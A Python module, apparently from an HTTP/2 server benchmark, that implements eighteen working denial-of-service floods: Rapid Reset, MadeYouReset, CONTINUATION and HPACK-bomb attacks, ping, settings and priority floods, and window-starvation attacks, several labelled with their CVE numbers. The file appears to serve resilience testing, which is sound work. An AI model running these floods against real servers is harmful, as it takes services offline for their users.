"""Attacks on HTTP/2, each on one connection: floods of frames, windows that do not open, fields that grow.

`benchmarks.http2.bystander` makes them in full, and the tests in small.
"""

import asyncio
import contextlib
from collections.abc import Awaitable, Callable
from typing import Final, NamedTuple

from benchmarks.http2 import frames
from benchmarks.http2.offender import Offender

BATCH: Final = 100
"""Frames, or pairs of them, that are sent at once."""

MAX_FRAME: Final = 16384

ENDLESS: Final = b"/stream"
"""What is answered without end."""


class Amount(NamedTuple):
    """How much of a thing is sent."""

    frames: int
    """How many at most, as long as the server takes them."""
    rate: float = 0.0
    """How many a second; 0: as many as are taken."""
    seconds: float = 10.0
    """How long a client waits that sends nothing."""


Attack = Callable[[Offender, Amount], Awaitable[None]]


async def flood(offender: Offender, amount: Amount, make: Callable[[int], bytes]) -> None:
    """Send frames until there were enough, or the server has had enough.

    :param make: from a number, what is sent.
    """
    loop = asyncio.get_running_loop()
    began = loop.time()
    for first in range(0, amount.frames, BATCH):
        await offender.push(b"".join(make(number) for number in range(first, first + BATCH)))
        if offender.is_gone:
            return
        if amount.rate:
            await asyncio.sleep(began + (first + BATCH) / amount.rate - loop.time())


def stream(number: int) -> int:
    """Return the number of a client's stream."""
    return 2 * number + 1


async def rapid_reset(offender: Offender, amount: Amount) -> None:
    """Open streams, and reset each at once (CVE-2023-44487)."""
    await flood(offender, amount, lambda n: frames.request(stream(n)) + frames.reset(stream(n)))


async def made_resets(offender: Offender, amount: Amount) -> None:
    """Have the server reset each stream, by a window that becomes too large (CVE-2025-8671)."""
    await flood(
        offender,
        amount,
        lambda n: frames.request(stream(n), ENDLESS) + frames.window(stream(n), (1 << 31) - 1),
    )


async def half_requests(offender: Offender, amount: Amount) -> None:
    """Open streams whose bodies never come, more than the server allows."""
    await flood(offender, amount, lambda n: frames.request(stream(n), method=3, flags=frames.END_HEADERS))


async def continuation(offender: Offender, amount: Amount) -> None:
    """Send fields without end (CVE-2024-24549)."""
    field = b"\x00" + frames.text(b"x" * 100) + frames.text(b"y" * 3900)
    payload = (field * 5)[:MAX_FRAME]
    offender.send(frames.request(1, flags=frames.END_STREAM))
    await flood(offender, amount, lambda n: frames.frame(frames.CONTINUATION, 0, 1, payload))


async def small_continuation(offender: Offender, amount: Amount) -> None:
    """Send fields without end, and nothing in them (CVE-2019-9518)."""
    offender.send(frames.request(1, flags=frames.END_STREAM))
    await flood(offender, amount, lambda n: frames.frame(frames.CONTINUATION, 0, 1))


async def settings(offender: Offender, amount: Amount) -> None:
    """Change settings, each of which the server has to acknowledge (CVE-2019-9515)."""
    await flood(offender, amount, lambda n: frames.settings({frames.INITIAL_WINDOW_SIZE: 65535 - n % 2}))


async def pings(offender: Offender, amount: Amount) -> None:
    """Send pings, each of which the server has to answer (CVE-2019-9512)."""
    await flood(offender, amount, lambda n: frames.frame(frames.PING, payload=n.to_bytes(8)))


async def unread_pings(offender: Offender, amount: Amount) -> None:
    """Send pings, and read no answer."""
    offender.transport.pause_reading()
    async with asyncio.timeout(None) as limit:
        # What it does not read, it cannot see either: the server stops to read, or closes.
        limit.reschedule(asyncio.get_running_loop().time() + 5)
        with contextlib.suppress(TimeoutError):
            await pings(offender, amount)
    offender.transport.resume_reading()


async def empty_data(offender: Offender, amount: Amount) -> None:
    """Send a body of empty frames (CVE-2019-9518)."""
    offender.send(frames.request(1, method=3, flags=frames.END_HEADERS))
    await flood(offender, amount, lambda n: frames.frame(frames.DATA, 0, 1))


async def priorities(offender: Offender, amount: Amount) -> None:
    """Send priorities of streams that are not open (CVE-2019-9513)."""
    payload = (0).to_bytes(4) + b"\x0f"
    await flood(offender, amount, lambda n: frames.frame(frames.PRIORITY, 0, stream(n), payload))


async def unknown(offender: Offender, amount: Amount) -> None:
    """Send frames of a type that nobody knows."""
    await flood(offender, amount, lambda n: frames.frame(frames.UNKNOWN))


async def windows(offender: Offender, amount: Amount) -> None:
    """Open the connection's window by a byte each time."""
    await flood(offender, amount, lambda n: frames.window(0, 1))


async def hpack_bomb(offender: Offender, amount: Amount) -> None:
    """Send fields that are small on the wire, and large when decoded (CVE-2016-1544)."""
    flags = frames.END_HEADERS | frames.END_STREAM
    first = frames.block() + b"\x40" + frames.text(b"bomb") + frames.text(b"x" * 3900)
    offender.send(frames.frame(frames.HEADERS, flags, 1, first))
    payload = frames.block() + b"\xbe" * (MAX_FRAME - len(frames.block()))
    await flood(offender, amount, lambda n: frames.frame(frames.HEADERS, flags, stream(n + 1), payload))


async def table_sizes(offender: Offender, amount: Amount) -> None:
    """Send fields that change the size of the dynamic table, again and again."""
    flags = frames.END_HEADERS | frames.END_STREAM
    payload = b"\x20\x3f\xe1\x1f" * 4000 + frames.block()
    await flood(offender, amount, lambda n: frames.frame(frames.HEADERS, flags, stream(n), payload))


async def crumbs(offender: Offender, amount: Amount) -> None:
    """Send very many cookies, a byte each."""
    flags = frames.END_HEADERS | frames.END_STREAM
    payload = frames.block() + (b"\x0f\x11" + frames.text(b"c")) * 4000
    await flood(offender, amount, lambda n: frames.frame(frames.HEADERS, flags, stream(n), payload))


async def unread(offender: Offender, amount: Amount) -> None:
    """Ask for 100 endless answers, with windows as large as can be, and read nothing."""
    largest = (1 << 31) - 1
    offender.send(frames.settings({frames.INITIAL_WINDOW_SIZE: largest}) + frames.window(0, largest - 65535))
    await offender.push(b"".join(frames.request(stream(number), ENDLESS) for number in range(BATCH)))
    offender.transport.pause_reading()
    await asyncio.sleep(amount.seconds)
    offender.transport.resume_reading()


async def closed_windows(offender: Offender, amount: Amount) -> None:
    """Ask for 100 endless answers, and open no window for them (CVE-2019-9517)."""
    await offender.push(frames.settings({frames.INITIAL_WINDOW_SIZE: 0}))
    await offender.push(b"".join(frames.request(stream(number), ENDLESS) for number in range(BATCH)))
    await asyncio.sleep(amount.seconds)


async def dribble(offender: Offender, amount: Amount) -> None:
    """Ask for 100 endless answers, and open the window of each a byte at a time (CVE-2019-9511)."""
    streams = [stream(number) for number in range(BATCH)]
    await offender.push(frames.settings({frames.INITIAL_WINDOW_SIZE: 0}))
    await offender.push(b"".join(frames.request(number, ENDLESS) for number in streams))
    await flood(offender, amount, lambda n: frames.window(streams[n % BATCH], 1))


ATTACKS: Final[dict[str, Attack]] = {
    "rapid-reset": rapid_reset,
    "made-resets": made_resets,
    "half-requests": half_requests,
    "continuation": continuation,
    "small-continuation": small_continuation,
    "settings": settings,
    "pings": pings,
    "unread-pings": unread_pings,
    "empty-data": empty_data,
    "priorities": priorities,
    "unknown": unknown,
    "windows": windows,
    "hpack-bomb": hpack_bomb,
    "table-sizes": table_sizes,
    "crumbs": crumbs,
    "unread": unread,
    "closed-windows": closed_windows,
    "dribble": dribble,
}
"""By name, in the order in which they are made."""
